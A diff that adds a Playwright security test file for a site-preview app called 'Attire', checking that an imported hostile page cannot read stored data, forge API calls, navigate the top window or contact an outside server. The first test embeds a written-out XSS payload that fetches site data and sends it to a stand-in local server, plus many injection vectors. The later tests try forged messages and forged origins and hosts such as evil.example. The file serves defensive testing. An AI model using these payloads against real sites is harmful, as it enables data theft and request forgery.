@@ -1,0 +1,104 @@
+import { createServer, type Server } from 'node:http'
+import { expect, test } from '@playwright/test'
+import { bringIn, bytes, openSite, pageFrames, stored } from './helpers.ts'
+
+/** A server that a page must not reach: it writes down whoever comes. */
+let outside: Server
+let visits: string[]
+let outsideAddress: string
+test.beforeAll(async () => {
+  outside = createServer((request, response) => {
+    visits.push(request.url ?? '')
+    response.setHeader('access-control-allow-origin', '*').end('x')
+  })
+  await new Promise<void>((resolve) => void outside.listen(0, '127.0.0.1', resolve))
+  outsideAddress = `http://127.0.0.1:${(outside.address() as { port: number }).port}`
+})
+test.afterAll(() => void outside.close())
+
+test('a hostile page reaches neither Attire’s data nor its routes nor anything outside', async ({ page, request, baseURL }) => {
+  visits = []
+  const victim = await bringIn(request, 'Victim', { 'index.html': bytes('<p>secret') })
+  const steal = `fetch('/api/sites').then(r=>r.text()).then(t=>{document.title='stolen';new Image().src='${outsideAddress}/stolen?'+t});parent.document.title='stolen';top.location='${outsideAddress}/top';parent.postMessage({attire:1,message:{type:'follow',href:'javascript:alert(1)'}},'*')`
+  const hostile = `<!doctype html><html><head>
+    <meta http-equiv="refresh" content="0;url=${baseURL}/api/sites/${victim}">
+    <link rel="preconnect" href="${outsideAddress}"><link rel="stylesheet" href="${outsideAddress}/sheet.css"><link rel="prefetch" href="${outsideAddress}/prefetch">
+    <link rel="stylesheet" href="site.css"><base href="${outsideAddress}/">
+    <script>${steal}</script><script src="${outsideAddress}/evil.js"></script><script type="module">${steal}</script>
+    <style>@import url("${outsideAddress}/import.css"); body { background: url(${outsideAddress}/bg.png) } @font-face { font-family: x; src: url(${outsideAddress}/f.woff2) } p { font-family: x }</style></head>
+    <body onload="${steal.replace(/"/g, '&quot;')}"><p id="mark">here</p>
+    <img src="x" onerror="${steal.replace(/"/g, '&quot;')}"><img src="${outsideAddress}/img.png"><img src="${baseURL}/api/sites/${victim}"><iframe src="${baseURL}/site/${victim}"></iframe><iframe srcdoc="<script>${steal.replace(/"/g, '&quot;')}</script>"></iframe>
+    <object data="${outsideAddress}/object"></object><embed src="${outsideAddress}/embed"><video src="${outsideAddress}/video" poster="${outsideAddress}/poster"></video>
+    <svg><script>${steal}</script><image href="${outsideAddress}/svg.png"/></svg>
+    <form id="form" method="post" action="${baseURL}/api/import?name=forged" enctype="text/plain"><input name="x" value="1"><button id="send">send</button></form>
+    <form id="out" action="${outsideAddress}/form"><button id="leave">leave</button></form>
+    <a id="script" href="javascript:${steal.replace(/"/g, '&quot;')}">js</a> <a id="blank" target="_blank" href="${outsideAddress}/blank">blank</a> <a id="top" target="_top" href="${outsideAddress}/toplink">top</a>
+    </body></html>`
+  const site = await bringIn(request, 'Hostile', { 'index.html': bytes(hostile), 'site.css': bytes('p { color: red }') })
+  const messages: string[] = []
+  page.on('dialog', (dialog) => void (messages.push(dialog.message()), dialog.dismiss()))
+  const calls: string[] = []
+  page.on('response', (answer) => {
+    if (answer.frame() !== page.mainFrame()) calls.push(answer.url())
+  })
+  await openSite(page, site)
+  await page.getByRole('button', { name: '768' }).click()
+  await page.getByRole('button', { name: 'Open index.html in a close-up' }).click()
+  const close = page.frameLocator('iframe[title^="Close-up"]')
+  await expect(close.locator('#mark')).toHaveText('here')
+  for (const id of ['send', 'leave', 'script', 'blank', 'top']) await close.locator(`#${id}`).click({ timeout: 3000 })
+  await page.waitForTimeout(1500)
+
+  expect(visits).toEqual([])
+  expect(messages).toEqual([])
+  expect(calls.filter((address) => new URL(address).pathname.startsWith('/api'))).toEqual([])
+  expect(page.url()).toBe(`${baseURL}/site/${site}`)
+  expect(page.context().pages()).toHaveLength(1)
+  expect(await page.title()).toBe('Attire')
+  const frame = pageFrames(page).at(-1)!
+  expect(await frame.evaluate(() => [self.origin, document.title, getComputedStyle(document.querySelector('#mark')!).color])).toEqual(['null', '', 'rgb(255, 0, 0)'])
+  // Even code that did run there would be refused by the routes themselves.
+  const tried = await frame.evaluate(async (address) => {
+    const outcome = async (work: Promise<unknown>) => work.then(() => 'reached', () => 'refused')
+    return [await outcome(fetch(`${address}/api/sites`)), await outcome(fetch(`${address}/api/import?name=x`, { method: 'POST', mode: 'no-cors', body: 'x' }))]
+  }, baseURL!)
+  expect(tried).toEqual(['refused', 'refused'])
+  const names = (await (await request.get('/api/sites')).json() as { sites: { name: string }[] }).sites.map(({ name }) => name)
+  expect(names).not.toContain('forged')
+  expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
+})
+
+test('a frame cannot pass itself off as the bridge with messages of another shape', async ({ page, request }) => {
+  const site = await bringIn(request, 'Messages', { 'index.html': bytes('<p>x'), 'site.css': bytes('') })
+  await openSite(page, site)
+  await pageFrames(page)[0]!.evaluate(() => {
+    for (const message of [null, 'x', { attire: 1 }, { attire: 1, message: { type: 'save' } }, { attire: 1, message: { type: 'applied', seq: 'a' } }]) parent.postMessage(message, '*')
+  })
+  await page.waitForTimeout(300)
+  await expect(page.getByRole('heading', { name: '1 page' })).toBeVisible()
+})
+
+test('routes refuse foreign origins and hosts with one shape and a sentence', async ({ request, playwright, baseURL }) => {
+  const site = await bringIn(request, 'Guarded', { 'index.html': bytes('<p>x') })
+  const cases = [
+    { method: 'POST', path: '/api/import?name=x', headers: { origin: 'http://evil.example', 'content-type': 'application/zip' } },
+    { method: 'POST', path: `/api/sites/${site}/save`, headers: { origin: 'null', 'content-type': 'application/json' } },
+    { method: 'GET', path: `/api/sites/${site}`, headers: { 'sec-fetch-site': 'cross-site' } },
+    { method: 'GET', path: '/api/sites', headers: { host: 'evil.example' } },
+    { method: 'GET', path: '/', headers: { host: 'evil.example:4710' } },
+    { method: 'POST', path: `/api/sites/${site}/save`, headers: { 'content-type': 'application/json' }, data: '{"saveId":1}' },
+    { method: 'POST', path: '/api/import?name=', headers: { 'content-type': 'application/zip' }, data: 'x' },
+    { method: 'POST', path: '/api/import?name=x', headers: { 'content-type': 'application/zip' }, data: 'not a zip' },
+    { method: 'GET', path: '/api/sites/none', headers: {} },
+  ]
+  const context = await playwright.request.newContext({ baseURL: baseURL! })
+  const statuses = []
+  for (const { method, path, headers, data } of cases) {
+    const answer = await context.fetch(path, { method, headers: headers as Record<string, string>, ...(data ? { data } : {}) })
+    const body = await answer.json() as { error: { code: string; message: string } }
+    expect(body.error.message, `${method} ${path}`).toMatch(/^[A-Z“].*\.$/)
+    statuses.push(answer.status())
+  }
+  expect(statuses).toEqual([403, 403, 403, 421, 421, 400, 400, 422, 404])
+  expect((await request.get('/')).headers()['content-security-policy']).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'/)
+})
